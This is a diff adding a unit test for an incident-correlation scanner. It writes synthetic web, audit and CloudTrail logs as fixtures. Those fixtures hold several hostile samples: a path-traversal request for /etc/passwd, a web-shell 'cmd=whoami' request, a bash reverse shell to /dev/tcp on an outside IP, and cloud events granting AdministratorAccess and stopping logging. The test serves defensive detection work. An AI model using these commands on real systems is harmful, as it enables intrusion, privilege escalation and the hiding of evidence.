@@ -188,5 +188,66 @@ class Incidents(unittest.TestCase):
         self.assertGreaterEqual(out.count(b" bits): "), len(first["links"]))
 
 
+OUTSIDE = "203.0.113.77"
+REQUESTS = [("10:02:00", "GET /download?file=../../../../etc/passwd HTTP/1.1"),
+            ("10:05:00", "POST /uploads/x.php?cmd=whoami HTTP/1.1")]
+
+
+def audit_event(second, serial, program_path, words, process, parent):
+    head = f"audit(17726187{second:02}.000:{serial})"
+    arguments = " ".join(f'a{i}="{word}"' for i, word in enumerate(words))
+    return (f"node=web01 type=SYSCALL msg={head}: arch=c000003e syscall=59 success=yes exit=0 "
+            f"ppid={parent} pid={process} auid=4294967295 uid=33 gid=33 euid=33 tty=(none) "
+            f'ses=4294967295 comm="{words[0]}" exe="{program_path}"'
+            f'\x1dUID="www-data" GID="www-data"\n'
+            f"node=web01 type=EXECVE msg={head}: argc={len(words)} {arguments}\n")
+
+
+def cloud_event(minute, name, source, parameters):
+    user = "arn:aws:iam::123456789012:user/svc-backup"
+    return {"eventVersion": "1.09", "eventTime": f"2026-03-06T12:{minute}:00Z",
+            "eventSource": source, "eventName": name, "awsRegion": "eu-central-1",
+            "sourceIPAddress": OUTSIDE, "userIdentity": {"type": "IAMUser", "arn": user},
+            "requestParameters": parameters, "responseElements": None,
+            "eventID": f"00000000-0000-4000-8000-0000000000{minute}",
+            "eventType": "AwsApiCall", "recipientAccountId": "123456789012"}
+
+
+class FromTheWebServerToTheCloud(unittest.TestCase):
+    """An access log that names no host, the audit log of the host whose folder it lies in, and two
+    days later a cloud, reached from the same address outside."""
+
+    def setUp(self):
+        self.folder = Path(tempfile.mkdtemp(prefix="tocsin-test-"))
+        (self.folder / "web01").mkdir()
+        lines = [f'{OUTSIDE} - - [04/Mar/2026:{at} +0000] "{request}" 200 512 "-" "curl/8.1"\n'
+                 for at, request in REQUESTS]
+        (self.folder / "web01/access.log").write_text("".join(lines))
+        (self.folder / "web01/audit.log").write_text(
+            audit_event(0, 500, "/usr/bin/dash", ["sh", "-c", "whoami"], 3500, 900)
+            + audit_event(12, 501, "/usr/bin/bash",
+                          ["bash", "-i", f">& /dev/tcp/{OUTSIDE}/443 0>&1"], 3511, 3500))
+        policy = "arn:aws:iam::aws:policy/AdministratorAccess"
+        events = [cloud_event(12, "AttachUserPolicy", "iam.amazonaws.com",
+                              {"userName": "helpdesk2", "policyArn": policy}),
+                  cloud_event(15, "StopLogging", "cloudtrail.amazonaws.com", {"name": "main"})]
+        (self.folder / "trail.json").write_text(json.dumps({"Records": events}))
+
+    def tearDown(self):
+        shutil.rmtree(self.folder)
+
+    def test_it_is_one_incident(self):
+        _, out, errors = program.run("scan", "--incidents", "--format", "jsonl", self.folder)
+        incidents = [json.loads(line) for line in out.splitlines()]
+        self.assertEqual(errors, b"")
+        first = incidents[0]
+        self.assertEqual({alert["path"] for alert in first["alerts"]},
+                         {"web01/access.log", "web01/audit.log", "trail.json"})
+        self.assertEqual([i["rank"] for i in incidents if i["rank"] != "low"], [first["rank"]])
+        accounts = {e["key"] for e in first["entities"] if e["kind"] == "account"}
+        self.assertIn("web01\\www-data", accounts)
+        self.assertNotIn("web01\\uid:33", accounts)
+
+
 if __name__ == "__main__":
     program.main()
